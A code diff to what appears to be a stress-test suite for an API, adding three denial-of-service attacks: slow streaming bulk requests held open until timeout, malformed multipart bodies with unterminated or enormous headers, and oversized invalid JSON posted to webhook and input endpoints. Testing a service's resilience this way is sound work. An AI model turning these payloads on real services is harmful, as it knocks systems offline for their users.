@@ -8,13 +8,14 @@ import io
 import itertools
 import json
 import secrets
+from collections.abc import AsyncIterator
 
 import aiohttp
 from PIL import Image
 
-from attack.attacks import Attack, Target, repeat
+from attack.attacks import TIMEOUT_S, Attack, Target, repeat
 
-AT_ONCE = 10
+AT_ONCE, HELD = 10, 2_000
 BODY_BYTES = 20 * 1000 * 1000
 
 
@@ -97,6 +98,41 @@ async def large_images_in_batches(target: Target) -> None:
         await repeat(2, one)
 
 
+async def held_lines(target: Target) -> None:
+    """Bulk requests that send all of a line of the largest size but its end, and wait."""
+    piece, head = b"x" * 1_000_000, {"Content-Type": "application/x-ndjson"}
+
+    async def line() -> AsyncIterator[bytes]:
+        yield piece
+        target.counts["sent"] += 1
+        await asyncio.sleep(TIMEOUT_S)
+
+    async with target.client() as client:
+        await repeat(HELD, lambda: target.send(client, "POST", "/v1/jobs:bulk", data=line(), headers=head))
+
+
+async def large_forms(target: Target) -> None:
+    """Multipart bodies of one part whose header has no end, and of many empty parts."""
+    bodies = itertools.cycle(
+        (
+            b'--x\r\nContent-Disposition: form-data; name="' + b"a" * BODY_BYTES,
+            b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n' * 300_000 + b"--x--\r\n",
+            b"--x\r\n" + b"A: b\r\n" * 3_000_000,
+        )
+    )
+    head = {"Content-Type": "multipart/form-data; boundary=x"}
+    async with target.client() as client:
+        await repeat(AT_ONCE, lambda: target.send(client, "POST", "/v1/inputs", data=next(bodies), headers=head))
+
+
+async def large_json(target: Target) -> None:
+    """JSON of the largest size whose values are all invalid."""
+    data = b'{"url": "https://a", "events": [' + b"1," * 500_000 + b"1]}"
+    head = {"Content-Type": "application/json"}
+    async with target.client() as client:
+        await repeat(AT_ONCE, lambda: target.send(client, "POST", "/v1/webhooks", data=data, headers=head))
+
+
 async def large_files(target: Target) -> None:
     """Files of 100 MB without end."""
     data = b'{"custom_id": "a"}\n' * 5_000_000
@@ -116,5 +152,8 @@ ATTACKS: dict[str, Attack] = {
     "endless inputs": small_inputs,
     "20 MB bodies": large_bodies,
     "100 MB files": large_files,
+    "held lines": held_lines,
+    "large forms": large_forms,
+    "large JSON": large_json,
     "large images in batches": large_images_in_batches,
 }
